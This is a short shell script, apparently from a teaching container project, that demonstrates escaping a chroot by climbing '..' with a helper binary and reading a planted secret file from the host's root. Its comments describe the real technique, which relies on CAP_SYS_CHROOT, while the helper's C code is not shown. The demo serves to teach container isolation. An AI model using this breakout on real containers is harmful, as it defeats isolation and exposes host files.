# Attack: the root is only a chroot, so climb out of it with "..".
# The host's / is still mounted behind the chroot; the demo planted a file
# there, at $MC_MARKER (a host path), holding a secret we do not know. A chroot
# can be left by a process that may call chroot itself (CAP_SYS_CHROOT, in
# Docker's default set): it chroots into a subdirectory without entering it, so
# its cwd is outside its root, climbs "..", and chroots into where it ended up. busybox's chroot always enters the new root,
# so the climb is a small C helper: /usr/bin/mc-escape-chroot-breakout.
echo "target: $MC_MARKER (a host path)"
if cat "$MC_MARKER" 2>/dev/null; then
    echo "the host file is already visible: no breakout needed?"
else
    echo "before: cat $MC_MARKER: not in this root"
fi
if ! command -v mc-escape-chroot-breakout >/dev/null; then
    echo "this rootfs has no mc-escape-chroot-breakout: rebuild it (minicontainer rootfs build busybox)"
fi
# The helper prints each step, and last what it read from the host file.
if mc-escape-chroot-breakout "$MC_MARKER" 2>&1; then
    echo "PROOF: the secret above came from the host's /"
else
    echo "the climb did not reach the host's /"
fi
